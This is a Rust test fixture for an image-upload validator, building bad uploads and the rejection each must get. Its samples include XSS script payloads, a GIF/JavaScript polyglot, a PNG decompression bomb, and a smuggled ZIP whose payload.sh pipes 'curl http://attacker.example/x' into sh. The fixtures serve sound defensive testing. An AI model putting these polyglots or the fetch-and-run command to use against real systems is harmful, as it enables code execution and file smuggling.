//! The corpus of bad uploads: each file and the rejection it must get, at
//! any chunking. The HTTP tests upload the same files.

use shoebox_domain::imaging::ImageRejectionKind;

use super::{SampleExif, jpeg, png};

/// One bad upload.
#[derive(Debug, Clone)]
pub struct BadInput {
    /// A file-name-like label, e.g. `"truncated.jpg"`.
    pub name: &'static str,
    pub bytes: Vec<u8>,
    pub expected: ImageRejectionKind,
}

/// Every bad input, with the rejection each must get.
pub fn bad_inputs() -> Vec<BadInput> {
    let input = |name, bytes, expected| BadInput {
        name,
        bytes,
        expected,
    };
    vec![
        input("empty.jpg", Vec::new(), ImageRejectionKind::Empty),
        input(
            "page.html.jpg",
            b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
                .to_vec(),
            ImageRejectionKind::UnsupportedFormat,
        ),
        input(
            "truncated-in-scan.jpg",
            truncated_jpeg(),
            ImageRejectionKind::Truncated,
        ),
        input(
            "bomb-100000x100000.png",
            png_bomb(),
            ImageRejectionKind::TooManyPixels,
        ),
        input("bad-crc.png", bad_crc_png(), ImageRejectionKind::Corrupt),
        input(
            "jpeg-zip-polyglot.jpg",
            [jpeg(64, 48, SampleExif::default()), zip()].concat(),
            ImageRejectionKind::TrailingData,
        ),
        input(
            "gif-javascript-polyglot.gif",
            gif_javascript_polyglot(),
            ImageRejectionKind::TrailingData,
        ),
        input(
            "gain-map-then-zip.jpg",
            [super::jpeg_with_gain_map(64, 48), zip()].concat(),
            ImageRejectionKind::TrailingData,
        ),
        input(
            "mpf-declared-zip.jpg",
            super::mpf::with_secondary(&jpeg(64, 48, SampleExif::default()), &zip()),
            ImageRejectionKind::TrailingData,
        ),
        input(
            "png-then-html.png",
            [png(8, 8, false), b"<script>alert(1)</script>".to_vec()].concat(),
            ImageRejectionKind::TrailingData,
        ),
    ]
}

/// A JPEG cut in the middle of its entropy-coded scan.
fn truncated_jpeg() -> Vec<u8> {
    let mut bytes = jpeg(320, 240, SampleExif::default());
    let start_of_scan = bytes
        .windows(2)
        .position(|pair| pair == [0xFF, 0xDA])
        .unwrap_or(0);
    bytes.truncate((start_of_scan + bytes.len()) / 2);
    bytes
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut crc = crc32fast::Hasher::new();
    crc.update(kind);
    crc.update(data);
    [
        &(data.len() as u32).to_be_bytes()[..],
        kind,
        data,
        &crc.finalize().to_be_bytes(),
    ]
    .concat()
}

/// A valid PNG structure whose header claims 10^10 pixels: a decompression
/// bomb is a few kilobytes of zlib that inflate to gigabytes.
fn png_bomb() -> Vec<u8> {
    let mut header = Vec::new();
    header.extend_from_slice(&100_000u32.to_be_bytes());
    header.extend_from_slice(&100_000u32.to_be_bytes());
    // 8-bit greyscale, deflate, adaptive filtering, no interlace.
    header.extend_from_slice(&[8, 0, 0, 0, 0]);
    [
        b"\x89PNG\r\n\x1a\n".to_vec(),
        png_chunk(b"IHDR", &header),
        // The start of a zlib stream of zeros (stored here only in part).
        png_chunk(b"IDAT", &[0x78, 0xDA, 0xED, 0xC1, 0x01, 0x0D, 0x00, 0x00]),
        png_chunk(b"IEND", &[]),
    ]
    .concat()
}

/// A PNG whose IHDR checksum is wrong.
fn bad_crc_png() -> Vec<u8> {
    let mut bytes = png(16, 16, false);
    // Signature (8), length (4), "IHDR" (4), data (13): the CRC follows.
    bytes[29] ^= 0x5A;
    bytes
}

/// A ZIP archive holding `payload.sh`, as appended to images to smuggle files.
fn zip() -> Vec<u8> {
    let name = b"payload.sh";
    let data = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n";
    let mut crc = crc32fast::Hasher::new();
    crc.update(data);
    let crc = crc.finalize().to_le_bytes();
    let size = (data.len() as u32).to_le_bytes();
    let name_length = (name.len() as u16).to_le_bytes();
    let local: Vec<u8> = [
        &b"PK\x03\x04"[..],
        &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        &crc,
        &size,
        &size,
        &name_length,
        &[0, 0],
        name,
        data,
    ]
    .concat();
    let central: Vec<u8> = [
        &b"PK\x01\x02"[..],
        &[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        &crc,
        &size,
        &size,
        &name_length,
        &[0; 12],
        &0u32.to_le_bytes(),
        name,
    ]
    .concat();
    let end: Vec<u8> = [
        &b"PK\x05\x06"[..],
        &[0, 0, 0, 0, 1, 0, 1, 0],
        &(central.len() as u32).to_le_bytes(),
        &(local.len() as u32).to_le_bytes(),
        &[0, 0],
    ]
    .concat();
    [local, central, end].concat()
}

/// The classic GIF/JavaScript polyglot: the logical screen width is the
/// bytes "/*", opening a comment that the script after the trailer closes,
/// so the file also runs as `GIF89a=1;alert(...)`.
fn gif_javascript_polyglot() -> Vec<u8> {
    [
        &b"GIF89a"[..],
        b"/*",
        &1u16.to_le_bytes(),
        // A global colour table of two entries, black and white.
        &[0x80, 0, 0],
        &[0, 0, 0, 255, 255, 255],
        // One 1×1 image: descriptor, LZW code size 2, one sub-block, end.
        &[0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0],
        &[0x02, 0x02, 0x44, 0x01, 0x00],
        &[0x3B],
        b"*/=1;alert(document.domain);//",
    ]
    .concat()
}
